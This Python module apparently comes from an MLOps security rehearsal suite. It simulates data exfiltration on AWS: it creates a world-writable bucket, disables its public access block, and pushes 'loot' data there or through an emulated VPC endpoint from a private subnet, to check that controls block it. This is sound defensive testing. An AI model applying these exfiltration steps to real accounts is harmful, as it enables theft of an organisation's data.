"""Attempts to carry data to an account of somebody else, by IAM and out of the VPC."""

import json
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from typing import Final

from botocore.exceptions import ClientError

from mlops_commons.contract import ParameterName, Persona
from mlops_rehearsal.acts.attacker import LOOT, Attacker
from mlops_rehearsal.acts.deployed_world import parameters_of

FOREIGN: Final = "666666666666"
"""An account that no configuration names."""
OWN_SESSION: Final = "arn:aws:sts::{account}:assumed-role/{role}/attack"
FOREIGN_SESSION: Final = f"arn:aws:sts::{FOREIGN}:assumed-role/mine/attack"
PAST_THE_ENDPOINT: Final = "no VPC endpoint policy allows the s3:PutObject action"


def open_to_all(**what: str) -> str:
    """A policy that lets everybody do something."""
    allowed = {"Effect": "Allow", "Principal": "*", **what}
    return json.dumps({"Version": "2012-10-17", "Statement": [allowed]})


@contextmanager
def _foreign_bucket(who: Attacker) -> Iterator[str]:
    """A bucket of an account that no stage is lets everybody write.

    Its root makes it: an account of the attacker's own is in no organization whose policies hold.
    """
    place = who.world.config.pipeline
    s3 = who.world.root("s3", place.account, place.region)
    bucket = f"mlops-p-loot-artifacts-{place.account}"
    s3.create_bucket(Bucket=bucket, CreateBucketConfiguration={"LocationConstraint": place.region})
    try:
        policy = open_to_all(Action="s3:PutObject", Resource=f"arn:aws:s3:::{bucket}/*")
        s3.delete_public_access_block(Bucket=bucket)
        s3.put_bucket_policy(Bucket=bucket, Policy=policy)
        yield bucket
    finally:
        with suppress(ClientError):
            s3.delete_object(Bucket=bucket, Key="data/loot")
        s3.delete_bucket(Bucket=bucket)


def send_out(who: Attacker) -> object:
    with _foreign_bucket(who) as bucket:
        return who.client("s3").put_object(Bucket=bucket, Key="data/loot", Body=LOOT)


def _through_the_endpoint(who: Attacker, principal: str, bucket: str) -> None:
    """From a private subnet of dev; the way to S3 leads through the endpoint, NAT or not."""
    project = who.project
    found = parameters_of(who.world, project.deployment, project.dev)
    who.world.emulator.ask_network(
        (project.dev.account, project.dev.region),
        found[ParameterName.PRIVATE_SUBNET_IDS].split(",")[0],
        [found[ParameterName.SECURITY_GROUP_ID]],
        {
            "service": "s3",
            "principal": principal,
            "action": "s3:PutObject",
            "resource": f"arn:aws:s3:::{bucket}/data/loot",
        },
    )


def send_from_inside(principal: str, who: Attacker) -> None:
    with _foreign_bucket(who) as bucket:
        _through_the_endpoint(who, _principal(principal, who), bucket)


def keep_inside(who: Attacker) -> None:
    bucket = who.bucket(f"{who.project.project_id}-artifacts")
    _through_the_endpoint(who, _principal(OWN_SESSION, who), bucket)


def _principal(session: str, who: Attacker) -> str:
    return session.format(
        account=who.project.dev.account,
        role=who.role(Persona.DATA_SCIENTIST).rpartition("/")[2],
    )
